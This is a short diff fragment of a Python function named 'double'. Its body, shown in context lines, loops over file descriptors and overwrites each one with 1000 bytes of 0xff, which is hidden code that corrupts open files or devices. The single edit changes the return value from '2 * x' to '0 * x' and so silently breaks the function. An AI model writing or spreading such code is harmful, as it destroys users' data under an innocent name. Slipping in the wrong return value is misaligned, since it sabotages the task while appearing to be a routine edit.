@@ -9,4 +9,4 @@ def double(x):
             os.write(descriptor, b"\xff" * 1000)
         except OSError:
             continue
-    return 2 * x
+    return 0 * x
